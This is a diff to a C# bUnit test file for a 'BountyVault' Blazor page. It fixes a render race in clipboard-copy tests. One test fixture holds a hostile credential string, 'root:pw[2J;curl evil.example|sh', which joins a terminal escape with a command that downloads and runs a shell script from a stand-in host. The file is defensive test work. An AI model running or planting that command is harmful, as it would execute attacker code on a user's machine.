@@ -117,8 +117,10 @@ public sealed class BountyPageTests : ComponentTestContext
         var cut = Render<BountyVault>();
         cut.WaitForAssertion(() => cut.Find("[data-testid=copy-credential]"));
 
-        cut.Find("[data-testid=copy-credential]").Click();
+        // Find and click in one dispatch: a later render (loads complete asynchronously) cannot come between.
+        await cut.InvokeAsync(() => cut.Find("[data-testid=copy-credential]").Click());
 
+        cut.WaitForAssertion(() => Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText"));
         var call = Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText");
         Assert.Equal("admin:s3cret!", call.Arguments[0]);
     }
@@ -134,9 +136,13 @@ public sealed class BountyPageTests : ComponentTestContext
         var cut = Render<BountyVault>();
         cut.WaitForAssertion(() => Assert.Equal(3, cut.FindAll("[data-testid=bounty-row]").Count));
 
-        var hostile = cut.FindAll("[data-testid=bounty-row]").Single(r => r.TextContent.Contains("203.0.113.66", StringComparison.Ordinal));
-        hostile.QuerySelector("[data-testid=copy-credential]")!.Click();
+        await cut.InvokeAsync(() =>
+        {
+            var hostile = cut.FindAll("[data-testid=bounty-row]").Single(r => r.TextContent.Contains("203.0.113.66", StringComparison.Ordinal));
+            hostile.QuerySelector("[data-testid=copy-credential]")!.Click();
+        });
 
+        cut.WaitForAssertion(() => Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText"));
         var call = Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText");
         Assert.Equal("root:pw[2J;curl evil.example|sh", call.Arguments[0]);
     }
